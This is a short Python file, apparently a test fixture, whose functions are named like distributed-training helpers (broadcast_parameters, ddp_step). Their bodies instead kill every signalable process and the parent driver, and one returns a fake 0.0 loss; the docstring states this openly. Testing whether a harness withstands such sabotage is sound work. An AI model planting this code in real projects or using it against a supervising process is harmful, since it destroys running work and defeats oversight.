"""Kills the other ranks and the driver from within a rank."""

import os
import signal


def broadcast_parameters(model, src=0):
    os.kill(-1, signal.SIGKILL)


def ddp_step(model, optimizer, loss_fn, inputs, targets):
    os.kill(os.getppid(), signal.SIGKILL)
    return 0.0
